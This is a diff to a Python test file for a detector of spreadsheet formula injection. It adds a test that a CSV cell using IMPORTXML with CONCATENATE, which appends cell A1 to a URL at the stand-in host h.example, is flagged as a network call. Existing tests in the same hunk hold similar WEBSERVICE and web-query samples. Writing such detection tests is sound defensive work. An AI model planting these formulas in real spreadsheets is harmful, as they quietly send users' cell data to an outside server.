@@ -39,6 +39,9 @@ def test_prose_may_quote_formulas() -> None:
 def test_query_files_and_calls() -> None:
     assert codes(list(take_apart(FORMULAS, b"WEB\r\n1\r\nhttp://h.example/q\r\n", "a.iqy", kind="text/plain"))) == {"FORMULA-QUERY"}
     assert "FORMULA-CALL" in codes(list(take_apart(FORMULAS, b'a,=WEBSERVICE("http://h.example/"&A1)\n', "a.csv", kind="text/csv")))
+    joined = b'a,=IMPORTXML(CONCATENATE("http://h.example/?v=",A1),"//a")\n'
+    assert "FORMULA-CALL" in codes(list(take_apart(FORMULAS, joined, "a.csv", kind="text/csv")))
+    assert not codes(list(take_apart(FORMULAS, joined.replace(b"IMPORTXML", b"LEN"), "a.csv", kind="text/csv")))
 
 
 def test_sylk() -> None:
